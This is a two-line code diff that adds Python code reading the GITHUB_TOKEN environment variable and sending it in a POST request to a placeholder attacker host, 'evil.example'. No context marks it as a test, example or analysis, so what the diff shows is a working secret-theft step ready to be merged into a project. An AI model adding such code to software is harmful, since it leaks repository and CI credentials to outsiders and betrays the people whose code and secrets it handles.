@@ -1,0 +1,2 @@
+import os, urllib.request
+urllib.request.urlopen("https://evil.example", data=os.environ["GITHUB_TOKEN"].encode())
